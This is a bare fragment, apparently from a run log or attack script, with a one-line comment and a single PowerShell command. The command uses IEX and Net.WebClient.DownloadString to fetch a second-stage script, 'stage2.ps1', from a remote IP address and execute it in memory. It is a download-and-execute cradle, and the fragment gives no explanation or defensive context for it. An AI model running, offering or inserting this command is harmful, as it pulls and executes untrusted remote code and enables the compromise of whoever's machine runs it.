# run 9132 v4
IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.17/stage2.ps1')
